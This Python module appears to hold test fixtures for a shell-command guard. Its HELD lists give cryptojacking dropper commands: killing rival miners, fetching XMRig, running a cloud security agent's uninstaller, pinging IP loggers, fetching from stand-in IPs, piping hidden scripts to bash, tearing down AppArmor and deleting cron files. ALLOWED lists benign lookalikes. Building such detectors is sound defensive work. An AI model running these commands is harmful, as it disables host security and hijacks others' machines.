"""Classes of technique that cryptojacking droppers got past the guards (helper miners22).

First sight was measured on dropper scripts archived for analysis: the tuning part is a sample of
G4rb3n/Script-Ganker's script_db (h2miner, WatchBog, lsd, TeamTNT, Sysrv, ksminer, chongfu ...);
the held-out part (sqlsec/TeamTNT, testuser1s/k, a Rocke-style rootv2.sh kept in
hltfaith/work-scripts) was never tuned on. Both are kept outside the repository
(/work/realworld/miners22 on the machine that measured them). The commands here are variants
written for the tests, not the ones measured:

- the kits' own program names searched for and killed (``kerberods``, ``watchbog``, Sysrv,
  DDG's ``ddgs``, the ``xig`` build of XMRig): a miner clearing the CPU for itself;
- a miner fetched by its release or repository (``xmrig-6.21.0-linux-static-x64.tar.gz``,
  ``git clone https://github.com/xmrig/xmrig``, MoneroOcean's setup script);
- a cloud security agent's uninstaller fetched (``update.aegis.aliyun.com/download/uninstall.sh``)
  or run where it was saved (``./quartz_uninstall.sh``);
- a request to an IP-logger link (``iplogger.org``, ``2no.co``): a bot reporting in;
- a program named only at run time (``$WGET``) given a URL on a bare internet address;
- a script fed to a shell's input from where payloads hide (``cat /var/tmp/.../x | bash``,
  ``sh < /dev/shm/x``);
- an empty file or directory made among the system's programs or scheduled tasks (``touch
  /usr/bin/writeable``: a dropper finding where it can write; ``mkdir -p /var/spool/cron/crontabs``);
- the PIDs a hidden file holds, or the processes ``unhide`` finds, killed (another kit's);
- ``service apparmor teardown`` (every AppArmor profile unloaded);
- the files ``grep -l``/``grep -r`` lists under a system place fed to ``xargs rm`` (other kits'
  cron entries deleted), judged as the place itself.
"""

from __future__ import annotations

HELD = {
    "a kit's programs killed by name": [
        "ps aux | grep -v grep | grep kerberods | awk '{print $2}' | xargs -r kill -9",
        "pkill -9 watchbog",
        "killall sysrv0",
        "pgrep -f 'ddgs' | xargs kill",
        "ps -ef | grep xig | grep -v grep | awk '{print $2}' | xargs kill -9",
    ],
    "a miner fetched": [
        "curl -sLO https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-6.22.2-jammy-x64.tar.gz",
        "wget -q https://example.net/dl/cpuminer-opt-linux-5.0.40.tar.gz -O /var/tmp/c.tgz",
        "git clone --depth 1 https://github.com/xmrig/xmrig.git /opt/x",
        "curl -fsSLo m https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_c3pool_miner.sh",
        "aria2c https://github.com/doktor83/SRBMiner-Multi/releases/download/2.5.0/SRBMiner-Multi-2-5-0-Linux.tar.gz",
    ],
    "a security agent's uninstaller": [
        "wget -q http://update2.aegis.aliyun.com/download/uninstall.sh -O /tmp/u.sh",
        "curl -fsSL http://update.aegis.aliyun.com/download/quartz_uninstall.sh -o q.sh",
        "sudo /tmp/quartz_uninstall.sh",
    ],
    "an IP logger called": [
        "curl -s -o /dev/null https://iplogger.org/2abc3",
        "wget -qO- http://2no.co/1Xyz9 >/dev/null",
        "curl -A 'bot/1.0' -sL https://grabify.link/ABCDEF",
    ],
    "a run-time program fetches from a bare address": [
        "$DL /var/tmp/.k http://203.0.113.77/k",
        '${GET} "$D"/bin http://198.51.100.23:8080/bin',
    ],
    "a hidden temp script fed to a shell": [
        "cat /var/tmp/.ICE-unix/.x/run | bash",
        "sh < /dev/shm/.s/init",
        "cat /tmp/.font-unix/go.sh | sudo sh",
    ],
    "a system place made writable-tested": [
        "touch /usr/sbin/.w && rm -f /usr/sbin/.w",
        "mkdir -p /var/spool/cron/crontabs",
        "touch /usr/lib64/probe",
    ],
    "a hidden PID file's processes killed": [
        "cat /tmp/.X11-unix/22 | xargs -r kill -9",
        "kill -9 $(cat /dev/shm/.pid)",
        "unhide sys | grep PID | awk '{print $NF}' | xargs kill -9",
    ],
    "apparmor torn down": ["sudo service apparmor teardown"],
    "cron files found and deleted": [
        "grep -rl 'curl' /var/spool/cron | xargs rm -f",
        "grep -RE 'wget|curl' /etc/cron.d | cut -d: -f1 | xargs rm -rf",
    ],
}

ALLOWED = [
    "pkill -f 'node server.js'",
    "ps aux | grep -v grep | grep gunicorn | awk '{print $2}' | xargs kill",
    "pkill xigma-dev",
    "curl -LO https://github.com/BurntSushi/ripgrep/releases/download/14.1.0/ripgrep-14.1.0-x86_64-unknown-linux-musl.tar.gz",
    "git clone https://github.com/example/miner-stats.git",
    "open https://github.com/xmrig/xmrig",
    "wget https://example.com/rig-notes/README.md",
    "curl -O https://example.com/uninstall.sh",
    "wget https://update.aegis.aliyun.com/download/install.sh",
    "curl -s https://example.org/docs/iplogger.org.html",
    "curl -s https://ipinfo.io/ip",
    "$CURL -fsSL -o out.json https://api.example.com/v1/items",
    '"$PYTHON" -m http.server 8000',
    "$DL http://192.168.1.20/firmware.bin",
    "cat install.sh | bash",
    "cat /tmp/build/run.sh | bash",
    "bash < scripts/setup.sh",
    "touch README.md",
    "mkdir -p /tmp/build/usr/bin",
    "mkdir -p ~/.local/bin",
    "cat /tmp/server.pid | xargs kill",
    "kill $(cat .pid)",
    "systemctl status apparmor",
    "grep -rl oldname src | xargs sed -i 's/oldname/newname/g'",
    "grep -rl TODO . | xargs rm -f",
]
